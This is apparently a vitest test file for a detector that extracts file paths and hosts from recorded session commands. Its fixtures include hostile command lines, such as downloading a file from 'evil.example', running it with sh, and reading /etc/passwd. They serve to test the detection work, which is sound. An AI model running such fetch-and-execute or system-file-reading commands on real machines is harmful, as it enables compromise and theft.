import { expect, it } from 'vitest';
import { namedIn } from '../../../../../../services/detector/sessions/record/named.ts';
import { command } from './views.ts';

const of = (...lines: readonly string[]) =>
  namedIn(lines.map((commandLine) => command({ commandLine })));

it('names each file and host once, in the order of the commands', () => {
  const { files, hosts } = of(
    'curl -o /tmp/x http://evil.example/x',
    'sh /tmp/x',
    'cat /etc/passwd',
    'curl http://192.0.2.9/y http://evil.example/x',
    'cat /etc/passwd',
  );
  expect(files).toStrictEqual(['/tmp/x', '/etc/passwd']);
  expect(hosts).toStrictEqual(['evil.example', '192.0.2.9']);
});

it('has none of commands that are not known', () => {
  const { commandLine: _, ...unknown } = command();
  expect(namedIn([unknown])).toStrictEqual({ files: [], hosts: [] });
});

it('lists the first two hundred of each', () => {
  const lines = Array.from({ length: 300 }, (_, i) => `curl http://host${i}.example/ -o /tmp/${i}`);
  const { files, hosts } = of(...lines);
  expect(files).toHaveLength(200);
  expect(files.at(-1)).toBe('/tmp/199');
  expect(hosts).toHaveLength(200);
});
